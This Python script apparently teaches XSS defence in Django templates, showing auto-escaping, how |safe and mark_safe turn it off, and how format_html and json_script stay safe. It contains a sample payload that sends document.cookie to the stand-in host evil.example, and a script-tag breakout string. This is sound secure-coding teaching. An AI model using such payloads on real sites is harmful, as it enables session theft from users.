"""XSS: Django templates escape variables by default; |safe, mark_safe and the JS context are where it breaks.

Shows (Django template engine, no project needed):
- {{ comment }} turns <script> into &lt;script&gt; (auto-escaping of < > & ' ");
- |safe / mark_safe() switch escaping off: the payload is rendered as live HTML;
- format_html() escapes the arguments while keeping your own markup;
- putting data into a <script> block: json_script emits JSON with < > & escaped, so a
  "</script>" inside the data cannot close the tag.

Needs: pip install django   (runs on Django 3.2 to 5.x)
"""
import sys

try:
    import django
    from django.conf import settings
except ImportError:
    print("This example needs Django: pip install django")
    sys.exit(2)

settings.configure(TEMPLATES=[{"BACKEND": "django.template.backends.django.DjangoTemplates"}])
django.setup()

from django.template import engines  # noqa: E402
from django.utils.html import format_html  # noqa: E402
from django.utils.safestring import mark_safe  # noqa: E402

engine = engines["django"]
payload = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
print("user input         :", payload)

escaped = engine.from_string("<p>{{ comment }}</p>").render({"comment": payload})
print("{{ comment }}      :", escaped)
assert "<script>" not in escaped and "&lt;script&gt;" in escaped

unsafe = engine.from_string("<p>{{ comment|safe }}</p>").render({"comment": payload})
print("{{ comment|safe }}:", unsafe)
assert "<script>" in unsafe, "|safe disables escaping: stored XSS"

unsafe2 = engine.from_string("<p>{{ comment }}</p>").render({"comment": mark_safe(payload)})
assert unsafe2 == unsafe, "mark_safe() on user input is the same mistake"

link = format_html('<a href="/u/{}">{}</a>', "alice", payload)
print("format_html()      :", link)
assert link.startswith('<a href="/u/alice">') and "<script>" not in link

data = engine.from_string('{{ profile|json_script:"profile-data" }}').render(
    {"profile": {"bio": "</script><script>alert(1)</script>"}}
)
print("json_script        :", data)
assert data.count("</script>") == 1 and "\\u003C/script\\u003E" in data

print("OK: auto-escaping neutralised the <script> payload; |safe/mark_safe re-enabled it; format_html and json_script stayed safe")
